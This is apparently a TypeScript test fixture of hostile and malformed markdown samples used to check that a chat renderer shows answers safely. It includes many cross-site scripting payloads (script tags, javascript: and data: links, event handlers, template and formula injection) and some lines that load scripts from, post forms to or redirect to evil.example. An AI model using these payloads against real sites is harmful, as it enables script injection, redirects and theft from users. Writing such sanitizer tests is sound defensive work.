/**
 * Answers that no model should write and some model will: broken, hostile, huge, or cut anywhere. Each must read the same
 * streamed and finished, and run nothing. Scripts that got through would call `alert` or set `document.title` to "owned".
 */
export const nastySamples: Readonly<Record<string, string>> = {
  // Marks that never close, or close late.
  unclosedFence: 'before\n\n```js\nconst a = `x`;\n\n\n// **no**',
  unclosedTildeFence: '~~~\nunclosed\n\n- not a list',
  fenceInFence: '````md\n```js\nlet a;\n```\n````\n\nafter\n\n```\n~~~\n```\n\nend',
  fenceWithHostileLanguage: '```html"><script>alert(1)</script>\n<b>x</b>\n```',
  fenceInList: '1. one\n\n   ```py\n   print(1)\n\n   print(2)\n   ```\n2. two\n\n```\nout\n```',
  unclosedEmphasis: 'a **bold _both `code\n\nnext *line* **',
  strayMarks: '* * *\n** **\n__ __\n*a**b*c** `` ` ``',
  underscores: 'snake_case_name and __init__ and _a__b_ and 2*3*4',
  strikethrough: '~~gone~~ ~one~ ~~not closed',
  // Structure that later text changes.
  setextHeadings: 'Title\n=====\n\nSub\ntitle\n---\n\npara\n- - -\n\nnot a title\n==x',
  headingRuns: '# H\ntext\n## H2\n####### seven\n#no\n# closed #\ntext',
  nestedLists: 'para\n\n- a\n- b\n  - c\n    1. d\n\n       deep\n\n  more\n\n- e\n\nend',
  looseTightLists: '- a\n- b\n\n- c\n\n* d\n* e\n\n\n1) f\n2) g\n\n10. h',
  taskLists: '- [ ] open\n- [x] done\n  - [X] inner\n\n1. [ ] numbered\n2. [x]\n3. [y] no',
  emptyListItems: '-\n- \n-   x\n1.\n2. y\n+',
  lazyQuotes: '> quote\nlazy\n> > deeper\nlazy too\n\n> - list\n> - in quote\n\n> # h\n\ntext',
  indentedCode: 'para\n\n    indented\n\n\n    more\n\ttab\n\nend\n    lazy',
  tables: '| a | b |\n|---|:-:|\n| 1 | **2** |\n| 3 | 4 |\n\nafter\n\na|b\n-|-:\nx|y\n> quote',
  brokenTables: '| a | b |\n|---|\n| 1 |\n\n| a |\n|---|\n| `|` | \\| | x |\n| 2\n\n|||\n|-|-|',
  tableWithHostileCells:
    '| a |\n|---|\n| <iframe src=//evil.example></iframe> |\n| [x](javascript:alert(1)) |',
  wideTable: `|${' head |'.repeat(40)}\n|${'---|'.repeat(40)}\n|${' some longer cell |'.repeat(40)}`,
  hugeTable: `| n | square |\n|--:|:--|\n${Array.from({ length: 200 }, (_, n) => `| ${n} | \`${n * n}\` |`).join('\n')}\n\nend`,
  hugeList: Array.from({ length: 120 }, (_, n) => `- item **${n}**`).join('\n'),
  horizontalRules: '---\n***\n___\n\na\n\n***b***\n- - -\n--',
  // Link definitions, wherever they stand.
  lateDefinition:
    'see [k], [text][K] and ![i][k]\n\n- [k]\n\n> [k][]\n\nmore\n\nmore\n\n[k]: https://koi.example "t"',
  lateDefinitionInQuote: 'see [k]\n\none\n\ntwo\n\nthree\n\n> [k]: https://koi.example\n\nend',
  competingDefinitions:
    '[a]\n\n[a]: https://first.example\n\nx\n\n[a]: https://second.example\n\n[a]',
  definitionWithSplitTitle:
    '[a]\n\nx\n\ny\n\n[a]: https://koi.example "never\n\nclosed\n\nhere" end',
  definitionNamedLikeAnObject:
    '[__proto__] [constructor] [toString][]\n\n[constructor]: https://koi.example',
  hostileDefinition: '[x][y] [y]\n\n[y]: javascript:alert(1)',
  footnotes: 'text[^1] and[^note]\n\n[^1]: https://koi.example\n[^note]: a longer one',
  // Addresses.
  javascriptLinks:
    '[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](java&#10;script:alert(1)) [x](&#106;avascript:alert(1)) [x](<javascript:alert(1)>)',
  controlCharacterLinks:
    '[x](\u0001javascript:alert(1)) [x](java\tscript:alert(1)) [x](%6aavascript:alert(1))',
  otherSchemes:
    '[x](vbscript:msgbox) [x](file:///etc/passwd) [x](blob:https://a/b) [x](about:blank) [x](//evil.example) [x](/api/participants/me) [x](#main)',
  dataAddresses:
    '[x](data:text/html,<script>alert(1)</script>) ![x](data:image/svg+xml,<svg/onload=alert(1)>) ![x](data:text/html;base64,PHNjcmlwdD4=)',
  autolinks:
    '<https://koi.example/a?b=c&d> https://koi.example/x_y_z. www.koi.example, a@b.example <a@b.example> <javascript:alert(1)> (https://koi.example/(a))',
  forgedLinks:
    '[https://bank.example](https://evil.example) [bank.example](https://evil.example/bank.example) [www.koi.example](https://koi.example)',
  images:
    '![x](https://evil.example/pixel.png) ![](https://evil.example/p.png "t") [![x](https://evil.example/p.png)](https://koi.example)',
  linkWithAttributes:
    '<a href="https://x.example" onclick="alert(1)">x</a> [x](https://x.example "\\" onmouseover=\\"alert(1)")',
  brokenLinks: '[a](https://koi.example [b]( [c]() [d](<>) [e] (x) [f](a b) ![g](',
  // HTML, which is shown and never run.
  scripts:
    '<script>alert(1)</script>\n\n<script src=//evil.example/x.js></script>\n\n<SCRIPT>document.title="owned"</SCRIPT',
  eventHandlers:
    '<img src=x onerror=alert(1)>\n\ntext <svg onload=alert(1)> <body onload=alert(1)> <details open ontoggle=alert(1)>',
  svg: '<svg><script>alert(1)</script><animate onbegin=alert(1) /></svg>\n\n<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  htmlBlocks:
    '<div>\nraw **no**\n\n**yes**\n</div>\n\n<!-- comment\n\nstill --> after\n\n<?php x ?>\n\n<!DOCTYPE html>\n\n<![CDATA[x]]>',
  unclosedHtml: 'a\n\n<!-- never closed\n\n**b**\n\n<pre>\n\nc',
  styleAndForms:
    '<style>*{display:none}</style>\n\n<form action=//evil.example><input name=a><button>b</button></form>\n\n<meta http-equiv=refresh content="0;url=//evil.example">\n\n<base href=//evil.example>',
  templates:
    '{{ constructor.constructor("alert(1)")() }} ${alert(1)} <template>x</template> v-html="x" @click=alert(1)',
  lineBreaks: 'one<br>two<br/>three  \nfour\\\nfive\nsix <BR onclick=alert(1)>',
  entities:
    '&lt;script&gt;alert(1)&lt;/script&gt; &copy; &#x41; &#0; &#xD800; &#x110000; &nope; &amp;amp; `&lt;`',
  mermaid:
    '```mermaid\ngraph TD;\n  A[<img src=x onerror=alert(1)>]-->B;\n  click A "javascript:alert(1)"\n```',
  // Formulas.
  formulas:
    'Let $x^2$ and \\(y_1 * z_2\\).\n\n$$\n\\frac{a}{b}\n+ c\n- d\n$$\n\n\\[\n\\begin{aligned}\na &= b\\\\\n&= c\n\\end{aligned}\n\\]\nend',
  money: 'It costs $5 and $10, or US$7 to $8-$9. Set $HOME/$USER; 5$ or 6$.',
  brokenFormulas:
    '$$\n\\frac{a\n$$\n\n$\\undefined{x}$ $$ $ $$\n\n$$\nnever closed\n\n- a\n\n\\[ x',
  formulaAmongBlocks: 'text\n$$\n- a\n# b\n> c\n$$\nmore\n$$ d $$\nend\n$$\n\nnot $$',
  hostileFormulas:
    '$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/p.png}$ $\\htmlStyle{position:fixed}{x}$ $\\def\\a{\\a\\a}\\a$ $\\rule{9999em}{9999em}$ $\\pmb{x}\\fcolorbox{red}{blue}{y}$',
  emphasisAroundFormulas: '*a $b*c$ d* and **$x_1$**, $a_1$_b_ $c*d$*e*',
  // Letters.
  rightToLeft:
    'שלום **עולם** `code` 123\n\n- مرحبا\n- [رابط](https://koi.example)\n\n| عربي | English |\n|---|---|\n| ١ | one |\n\n> اقتباس',
  bidiControls: 'a\u202Egnirts\u202C b \u2066x\u2069 [\u202Eexe.txt](https://koi.example)',
  emoji: '👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇩🇪 **👩‍💻** `🐟`\n\n- 🧑🏿‍🤝‍🧑🏻\n\n:smile: e\u0301 한국어 ไทย',
  loneSurrogates: 'a \uD83D b \uDE00 c **\uD83D** d',
  carriageReturns: 'one\r\n\r\n- a\r\n- b\r\n\r\n```js\r\nx\r\n```\r\rold\rmac\r\n\r\n    code\r\n',
  nulAndControls: 'a\0b **\0** \u0007 \u001B[31m `\0`\n\n\0\n\n\uFEFF# x',
  unicodeSpaces: 'a\u2028b\u2029c\u00A0d\u3000e\n\n\u00A0\n\n-\u00A0x\n\n#\u3000y',
  longWords: `${'a'.repeat(3_000)}\n\n# ${'b'.repeat(500)}\n\n\`${'c'.repeat(500)}\`\n\nhttps://koi.example/${'d'.repeat(500)}`,
  // Depth, and what makes slow patterns slow.
  deepQuotes: `${'>'.repeat(60)} deep\n\nend`,
  deepLists: Array.from({ length: 30 }, (_, depth) => `${'  '.repeat(depth)}- level ${depth}`).join(
    '\n',
  ),
  deepBrackets: `${'['.repeat(200)}a${']'.repeat(200)}(https://koi.example) ${'('.repeat(200)}`,
  deepEmphasis: `${'*a '.repeat(50)}${'b* '.repeat(50)}`,
  starRuns: `${'*'.repeat(300)}a${'*'.repeat(299)} ${'a**b'.repeat(70)}`,
  underscoreRuns: '_a__b'.repeat(150),
  backtickRuns: `${'`'.repeat(400)}a${'`'.repeat(399)} ${'`a``b'.repeat(100)}`,
  bracketRuns: `${'![['.repeat(150)} ${'[a]('.repeat(150)}`,
  angleRuns: `${'<'.repeat(200)} ${'<a '.repeat(80)} ${'<!-- '.repeat(60)}`,
  dollarRuns: `${'$a'.repeat(200)} ${'$$'.repeat(100)} ${'\\('.repeat(200)} ${'\\['.repeat(200)}`,
  pipeRuns: `${'|'.repeat(300)}\n${'|-'.repeat(300)}\n${'|x'.repeat(300)}`,
  blankLines: `a${'\n'.repeat(200)}b\n \n\t\n  \nc${' '.repeat(300)}d`,
  empty: '',
  onlySpace: ' \n\n \t\n',
};
